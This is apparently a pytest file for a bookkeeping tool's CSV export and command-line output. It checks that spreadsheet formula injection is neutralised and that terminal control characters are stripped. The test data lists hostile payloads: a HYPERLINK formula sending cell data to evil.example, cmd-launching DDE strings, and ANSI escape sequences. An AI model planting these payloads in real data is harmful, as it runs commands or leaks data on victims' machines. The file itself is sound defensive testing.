"""Names are user data: CSV cells a spreadsheet shows but never runs, CLI text without controls."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from posbooks.core.reconcile import DocumentCheck
from posbooks.core.untrusted import FORMULA_STARTS, printable, spreadsheet_cell
from posbooks.reconcile.gather import Reconciliation, to_csv
from posbooks.services import reconcile_csv

DAY = date(2026, 11, 20)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_text_cell_that_starts_like_a_formula_is_shown_as_text(name):
    assert spreadsheet_cell(name) == "'" + name


@pytest.mark.parametrize("value", ["Bangsar", "Nasi & Co", "", " =1", "5-2", "a=b"])
def test_ordinary_text_is_written_as_it_is(value):
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.00"), Decimal("+3.50"), -3, DAY, None])
def test_amounts_counts_and_dates_stay_values_a_spreadsheet_can_sum(value):
    assert spreadsheet_cell(value) is value


def _reconciliation() -> Reconciliation:
    check = DocumentCheck(
        DAY,
        HOSTILE[0],
        "journal",
        HOSTILE[1],  # the payment method of a sales receipt
        "PB261120-ABCDE-J",
        "edited",
        HOSTILE[2],
        pos_total=Decimal("-12.00"),
        sent_total=Decimal("-12.00"),
        qbo_total=Decimal("-10.50"),
        qbo_id="-1",
    )
    return Reconciliation("1", DAY, DAY, "journal", (check,), datetime.now(UTC))


def test_the_reconcile_csv_neutralises_formulas_and_keeps_amounts_numeric():
    text = reconcile_csv(_reconciliation())  # History's Download CSV
    assert text == to_csv(_reconciliation())  # and `posbooks reconcile --format csv`
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["outlet"] == "'" + HOSTILE[0]
    assert row["payment_method"] == "'" + HOSTILE[1]
    assert row["message"] == "'" + HOSTILE[2]
    assert row["qbo_id"] == "'-1"  # an Id is text: shown as typed
    assert (row["pos_total"], row["sent_total"], row["qbo_total"]) == ("-12.00", "-12.00", "-10.50")
    assert row["business_date"] == "2026-11-20"
    for cell in row.values():  # what a spreadsheet would evaluate
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            Decimal(cell)  # only numbers may start with a minus sign


@given(st.text())
def test_no_text_cell_ever_starts_a_formula(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text


TERMINAL_TRICKS = [
    ("Bangsar\x1b]0;pwned\x07", "Bangsar]0;pwned"),  # retitles the terminal window
    ("\x1b[2J\x1b[HKLCC", "[2J[HKLCC"),  # clears the screen
    ("Mid\x00Valley", "MidValley"),  # NUL truncates in C tools
    ("Cash\x9b31mRed", "Cash31mRed"),  # C1 CSI: the one-byte ESC [
    ("Del\x7fete", "Delete"),
    ("Tab\there", "Tab\there"),
]


@pytest.mark.parametrize(("name", "shown"), TERMINAL_TRICKS)
def test_printable_drops_control_characters(name, shown):
    assert printable(name) == shown


def test_printable_keeps_line_breaks_only_when_asked():
    assert printable("one\ntwo\r\nthree") == "one two three"
    assert printable("one\ntwo\x1b[1m", keep_line_breaks=True) == "one\ntwo[1m"
    assert printable(None) == ""


@given(st.text())
def test_printable_never_leaves_a_control_character(text):
    assert not any(ord(c) < 32 and c != "\t" or 0x7F <= ord(c) <= 0x9F for c in printable(text))
